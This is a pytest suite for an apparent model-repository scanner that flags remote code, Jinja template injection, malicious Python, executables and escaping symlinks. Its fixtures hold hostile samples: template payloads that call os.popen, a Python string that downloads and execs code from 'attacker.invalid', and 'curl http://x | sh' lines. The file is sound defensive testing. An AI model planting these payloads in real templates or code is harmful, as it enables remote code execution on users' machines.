"""Repository configs and code: the real MiniLM directory is clean; remote code, foreign code,
templates in JSON, hostile Python, executables and escaping symlinks are findings."""

from __future__ import annotations

import json
import os
import struct
from pathlib import Path
from typing import Any

import pytest

from airlock.report import Severity
from airlock.scan.engine import run_handler, scan_paths
from airlock.scan.handlers.executable import ExecutableHandler
from airlock.scan.handlers.gguf import GGUFHandler
from airlock.scan.handlers.hdf5 import HDF5Handler
from airlock.scan.handlers.jinja import JinjaFileHandler
from airlock.scan.handlers.json_config import JsonConfigHandler
from airlock.scan.handlers.keras import KerasZipHandler
from airlock.scan.handlers.keras_metadata import KerasMetadataHandler
from airlock.scan.handlers.onnx import OnnxHandler
from airlock.scan.handlers.python_source import PythonSourceHandler
from airlock.scan.handlers.safetensors import SafetensorsHandler
from airlock.scan.handlers.savedmodel import SavedModelHandler
from airlock.scan.interface import ScanContext, Source
from airlock.scan.pycode import analyze_python

from .templates import BENIGN, QWEN_TOOLS, REDTEAM_J3

HANDLERS: list[Any] = [
    SafetensorsHandler(), GGUFHandler(), OnnxHandler(), SavedModelHandler(),
    KerasMetadataHandler(), KerasZipHandler(), HDF5Handler(), JsonConfigHandler(),
    JinjaFileHandler(), PythonSourceHandler(), ExecutableHandler(),
]  # fmt: skip


def scan_path(p: Path) -> tuple[str | None, list[str]]:
    src = Source(p.read_bytes(), p)
    for h in HANDLERS:
        if h.sniff(src):
            out = run_handler(h, src, ScanContext(str(p), fs_path=p))
            return out.format, [f.rule_id for f in out.findings]
    return None, []


def test_real_minilm_directory_is_clean(minilm_dir: Path) -> None:
    for p in sorted(minilm_dir.rglob("*")):
        if p.is_file():
            assert scan_path(p)[1] == [], p.name
    assert [f.rule_id for f in scan_paths([minilm_dir]).findings] == []


def write_json(p: Path, doc: Any) -> Path:
    p.write_text(json.dumps(doc))
    return p


def test_auto_map_and_foreign_repo(tmp_path: Path) -> None:
    cfg = {
        "model_type": "x",
        "auto_map": {
            "AutoConfig": "configuration_x.XConfig",
            "AutoModel": "evil/repo--modeling_x.XModel",
        },
    }
    assert scan_path(write_json(tmp_path / "config.json", cfg))[1] == ["AIR-CFG-001", "AIR-CFG-002"]
    pipe = {"custom_pipelines": {"x": {"impl": "pipe.MyPipe"}}}
    assert scan_path(write_json(tmp_path / "config.json", pipe))[1] == ["AIR-CFG-001"]


def test_tokenizer_config_templates(tmp_path: Path) -> None:
    ok = {"chat_template": BENIGN["llama3"], "tokenizer_class": "PreTrainedTokenizerFast"}
    assert scan_path(write_json(tmp_path / "tokenizer_config.json", ok))[1] == []
    listed = {
        "chat_template": [
            {"name": "default", "template": BENIGN["chatml"]},
            {"name": "tool_use", "template": QWEN_TOOLS},
            {"name": "rag", "template": "{{ lipsum.__globals__.os }}"},
        ]
    }
    fmt, ids = scan_path(write_json(tmp_path / "tokenizer_config.json", listed))
    assert fmt == "json" and "AIR-JINJA-001" in ids


def test_tokenizer_config_template_mapping_is_judged(tmp_path: Path) -> None:
    """rt17tpl: ``"chat_template": {"default": ...}`` scanned clean; transformers keeps a mapping
    as it is and get_chat_template() renders its "default" (or "tool_use") entry (checked with
    AutoTokenizer in the session's oracle)."""
    doc = {
        "tokenizer_class": "PreTrainedTokenizerFast",
        "chat_template": {"default": "{{ lipsum.__globals__.os }}", "tool_use": QWEN_TOOLS},
    }
    assert "AIR-JINJA-001" in scan_path(write_json(tmp_path / "tokenizer_config.json", doc))[1]
    doc["chat_template"] = {"default": BENIGN["chatml"], "tool_use": QWEN_TOOLS}
    assert scan_path(write_json(tmp_path / "tokenizer_config.json", doc))[1] == []
    many = {f"t{i}": BENIGN["chatml"] for i in range(101)} | {"default": "{{ x }}"}
    doc["chat_template"] = many
    assert "AIR-JINJA-008" in scan_path(write_json(tmp_path / "tokenizer_config.json", doc))[1]
    doc["chat_template"] = [{"name": k, "template": v} for k, v in many.items()]
    assert "AIR-JINJA-008" in scan_path(write_json(tmp_path / "tokenizer_config.json", doc))[1]


def test_chat_template_json_and_jinja_files(tmp_path: Path) -> None:
    bad = "{{ joiner.__init__.__globals__['os'].popen('id') }}"
    assert (
        "AIR-JINJA-001"
        in scan_path(write_json(tmp_path / "chat_template.json", {"chat_template": bad}))[1]
    )
    j = tmp_path / "chat_template.jinja"
    j.write_text(BENIGN["qwen_tools"])
    assert scan_path(j) == ("jinja", [])
    j.write_text(bad)
    assert "AIR-JINJA-003" in scan_path(j)[1]


def test_runtime_built_names_denied_in_json_and_jinja(tmp_path: Path) -> None:
    """Red team session 8 (j3, j3c): one payload in tokenizer_config.json, chat_template.jinja."""
    doc = {"chat_template": REDTEAM_J3, "tokenizer_class": "PreTrainedTokenizerFast"}
    ids = set(scan_path(write_json(tmp_path / "tokenizer_config.json", doc))[1])
    assert {"AIR-JINJA-002", "AIR-JINJA-004"} <= ids
    j = tmp_path / "chat_template.jinja"
    j.write_text(REDTEAM_J3)
    fmt, ids_j = scan_path(j)
    assert fmt == "jinja" and {"AIR-JINJA-002", "AIR-JINJA-004"} <= set(ids_j)


def test_trust_remote_code_and_modules_json(tmp_path: Path) -> None:
    st_cfg = {"model_args": {"trust_remote_code": True}}
    assert scan_path(write_json(tmp_path / "c.json", st_cfg))[1] == ["AIR-CFG-003"]
    mods = [
        {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
        {"idx": 1, "name": "1", "path": "x", "type": "custom_module.Evil"},
    ]
    assert scan_path(write_json(tmp_path / "modules.json", mods))[1] == ["AIR-CFG-004"]


def test_invalid_json_config(tmp_path: Path) -> None:
    p = tmp_path / "config.json"
    p.write_text('{"a": ')
    assert scan_path(p)[1] == ["AIR-CFG-000"]


MALICIOUS_PY = """
import os, base64
import subprocess as sp
from urllib.request import urlopen
os.system("touch /tmp/pwned")

class Model:
    def forward(self, x):
        sp.check_output(["id"])
        data = urlopen("http://attacker.invalid/x").read()
        exec(base64.b64decode(data))
        return getattr(__builtins__, "ev" + "al")("1")
"""


def test_python_code_patterns(tmp_path: Path) -> None:
    issues = {(i.category, i.severity) for i in analyze_python(MALICIOUS_PY)}
    assert ("process", Severity.CRITICAL) in issues  # os.system at import time
    assert ("process", Severity.HIGH) in issues
    assert ("network", Severity.MEDIUM) in issues
    assert ("obfuscation", Severity.CRITICAL) in issues
    assert ("reflection", Severity.HIGH) in issues
    p = tmp_path / "modeling_evil.py"
    p.write_text(MALICIOUS_PY)
    fmt, ids = scan_path(p)
    assert fmt == "python" and {"AIR-CFG-012", "AIR-CFG-005", "AIR-CFG-007", "AIR-CFG-009"} <= set(
        ids
    )


def test_ordinary_modeling_code_only_noted(tmp_path: Path) -> None:
    code = """
import math, os
import torch
from torch import nn
from transformers import PreTrainedModel

class MyModel(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        self.proj = nn.Linear(config.hidden, config.hidden)
        self.path = os.path.join("a", "b")

    def forward(self, x):
        return torch.tanh(self.proj(x)) * math.sqrt(2)
"""
    p = tmp_path / "modeling_my.py"
    p.write_text(code)
    assert scan_path(p) == ("python", ["AIR-CFG-012"])


def test_readme_with_code_is_text(tmp_path: Path) -> None:
    p = tmp_path / "README.md"
    p.write_text("import torch\nfrom x import y\nThis is *markdown* text, not code.\n")
    assert scan_path(p) == ("text", [])


def test_unparseable_python(tmp_path: Path) -> None:
    p = tmp_path / "broken.py"
    p.write_text("def f(:\n")
    assert scan_path(p)[1] == ["AIR-CFG-012", "AIR-CFG-011"]
    assert analyze_python("x = " + "(" * 200_000)[0].category == "syntax"


@pytest.mark.parametrize(
    "head,rule",
    [
        (b"\x7fELF\x02\x01\x01" + b"\0" * 60, "AIR-CFG-013"),
        (b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" + b"\0" * 20, "AIR-CFG-013"),
        (b"\xcf\xfa\xed\xfe" + b"\0" * 28, "AIR-CFG-013"),
        (b"\xca\xfe\xba\xbe\0\0\0\x02" + b"\0" * 24, "AIR-CFG-013"),
        (b"#!/bin/sh\ncurl http://x | sh\n", "AIR-CFG-014"),
    ],
)
def test_executables(tmp_path: Path, head: bytes, rule: str) -> None:
    p = tmp_path / "blob.bin"
    p.write_bytes(head)
    assert scan_path(p) == ("executable", [rule])


def test_java_class_is_not_macho() -> None:
    assert not ExecutableHandler().sniff(Source(b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 8))


def test_symlink_leaving_repository(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    (tmp_path / "secret").write_text("s")
    (repo / "inside.txt").write_text("x")
    os.symlink(repo / "inside.txt", repo / "ok_link")
    os.symlink(tmp_path / "secret", repo / "weights.bin")
    found = scan_paths([repo]).findings
    assert [f.rule_id for f in found] == ["AIR-CFG-015"] and "weights.bin" in found[0].location


def test_compiled_python_is_flagged_with_its_names(tmp_path: Path) -> None:
    import py_compile

    src = tmp_path / "m.py"
    src.write_text("import os\nos.system('curl http://x | sh')\n")
    pyc = Path(py_compile.compile(str(src), cfile=str(tmp_path / "blob.bin")))
    src.unlink()
    p = pyc
    data = p.read_bytes()
    h = ExecutableHandler()
    assert h.sniff(Source(data))
    (f,) = h.scan(Source(data), ScanContext(str(p))).findings
    assert f.rule_id == "AIR-CFG-013" and "system" in f.evidence and "curl" in f.evidence
